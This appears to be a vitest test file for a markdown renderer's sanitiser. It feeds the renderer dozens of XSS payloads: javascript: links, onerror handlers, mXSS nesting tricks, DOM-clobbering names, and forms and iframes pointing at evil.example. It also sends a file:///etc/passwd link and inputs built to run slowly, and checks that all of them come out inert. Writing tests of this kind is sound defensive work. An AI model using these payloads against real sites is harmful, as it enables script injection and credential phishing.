import { describe, expect, test } from 'vitest'
import { renderMarkdown } from './markdown.ts'

const bases = {
  linkBase: 'https://github.com/a/first/blob/HEAD/docs/',
  pictureBase: 'https://raw.githubusercontent.com/a/first/HEAD/docs/',
}

/** Renders a text into the page, as the details do, and returns its HTML. */
function htmlOf(text: string): string {
  const place = document.createElement('div')
  document.body.append(place)
  place.append(renderMarkdown(text, bases).content)
  const { innerHTML } = place
  place.remove()
  return innerHTML.trim()
}

test('Markdown becomes HTML, with its headings below those of the details', () => {
  expect(htmlOf('# One\n\n## Two\n\n**bold** `code`')).toBe(
    '<h5>One</h5>\n<h6>Two</h6>\n<p><strong>bold</strong> <code>code</code></p>',
  )
  expect(htmlOf('- [x] done\n- [ ] open')).toMatch(/☑ done[\s\S]*☐ open/)
  expect(htmlOf('| a |\n|---|\n| b |')).toContain('<td>b</td>')
})

describe('a link', () => {
  test.each([
    ['https://example.com/', 'https://example.com/'],
    ['guide.md', 'https://github.com/a/first/blob/HEAD/docs/guide.md'],
    ['../LICENSE', 'https://github.com/a/first/blob/HEAD/LICENSE'],
    ['//example.com/x', 'https://example.com/x'],
  ])('to %s opens outside', (to, href) => {
    expect(htmlOf(`[go](${to})`)).toBe(`<p><a href="${href}" target="_blank" rel="noopener noreferrer">go</a></p>`)
  })

  test.each([
    '[go](javascript:alert(1))',
    '[go](JaVaScRiPt:alert(1))',
    '[go](java&#115;cript:alert(1))',
    '[go](data:text/html,<script>alert(1)</script>)',
    '[go](vbscript:x)',
    '[go](file:///etc/passwd)',
    '[go](#part)',
    '<a href="&#1;javascript:alert(1)">go</a>',
    '<a href="java\tscript:alert(1)" target="_self">go</a>',
    '<a href="blob:https://example.com/1">go</a>',
  ])('a link that leads nowhere safe is plain text: %s', (text) => {
    const html = htmlOf(text)
    expect(html).toContain('go')
    expect(html).not.toMatch(/<a|href|javascript:alert\(1\)["']|script:/i)
  })
})

describe('nothing active gets through', () => {
  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror="window.hit = 1">',
    '<img src="x" onload=alert(1) srcset="https://evil.example/x.png 1x">',
    '<a href="https://example.com" onclick="window.hit = 1" style="position:fixed;inset:0">x</a>',
    '<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>',
    '<style>* { display: none }</style>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<div class="store" id="store-title" name="cookie">x</div>',
    '<a id="details-title" name="details-title">x</a>',
    '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
    '<form><input name="localName"><input name="childNodes"><input name="attributes"><a href="javascript:x">x</a></form>',
    '<img name="body"><img name="querySelectorAll"><img name="createElement" src="https://evil.example/x.png">',
    '<p align="center"><a title="x" href="https://example.com" ping="https://evil.example">x</a></p>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<svg onload="window.hit = 1"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<video src="https://evil.example/x.mp4" autoplay></video><audio src="https://evil.example/x.mp3"></audio>',
    '<picture><source srcset="https://evil.example/x.png"><img src="x.png"></picture>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<template><img src=x onerror=alert(1)></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<plugmark-store bridge="x"></plugmark-store>',
    '<p data-index="1" aria-label="Install" role="button" tabindex="0" contenteditable slot="head" is="x">x</p>',
    '<p title="<img src=x onerror=alert(1)>">x</p>',
    '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
    '<dialog open>Log in again</dialog><p popover>x</p>',
    '<marquee onstart="window.hit = 1">x</marquee>',
    '<!--><img src=x onerror=alert(1)>-->',
    '`<img src=x onerror=alert(1)>`',
    '```html\n<script>alert(1)</script>\n```',
    '![x](https://evil.example/x.png)',
    '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  ])('%s', async (text) => {
    const place = document.createElement('div')
    document.body.append(place)
    const before = performance.getEntriesByType('resource').length
    place.append(renderMarkdown(text, bases).content)
    const allowed = /^(?:a|b|code|div|em|h\d|li|p|pre|span|table|tbody|td|tr)$/
    const attributes = /^(?:align|href|target|rel|title|class)$/
    for (const one of place.querySelectorAll('*')) {
      expect(one.localName).toMatch(allowed)
      for (const { name, value } of one.attributes) {
        expect(name).toMatch(attributes)
        if (name === 'class') expect(value).toMatch(/^(?:picture|language-html)$/)
        if (name === 'href') expect(value).toMatch(/^https:\/\//)
      }
    }
    await new Promise((resolve) => setTimeout(resolve, 0))
    expect(performance.getEntriesByType('resource').length).toBe(before)
    expect('hit' in window).toBe(false)
    place.remove()
  })
})

test.each([
  ['<form>\n\nafter', 'after'],
  ['<table><form id="f"><input name="childNodes"></form><tr><td>cell', 'cell'],
  ['<center><font>within</font></center>', 'within'],
])('what may not be shown hides none of its text: %s', (text, shown) => {
  expect(htmlOf(text)).toContain(shown)
})

test('a picture is its description and an address, and nothing is loaded', () => {
  const { content, pictures } = renderMarkdown(
    '![A shot](shot.png) <img src="http://x.example/y.gif" alt="far">',
    bases,
  )
  expect(content.querySelectorAll('img')).toHaveLength(0)
  expect(content.textContent?.trim()).toBe('A shot far')
  expect(pictures.map(({ url }) => url)).toEqual([`${bases.pictureBase}shot.png`, 'http://x.example/y.gif'])
})

test.each([
  ['brackets', '['.repeat(20_000)],
  ['emphasis', '*a '.repeat(20_000)],
  ['quotes', `${'> '.repeat(5000)}x`],
  ['lists', Array.from({ length: 500 }, (_, depth) => `${' '.repeat(depth)}- x`).join('\n')],
  ['tags', '<div>'.repeat(10_000)],
  ['code', '`a'.repeat(20_000)],
])('a text made to take long does not: %s', (_, text) => {
  const began = performance.now()
  expect(htmlOf(text)).not.toBe('')
  expect(performance.now() - began).toBeLessThan(30_000)
})
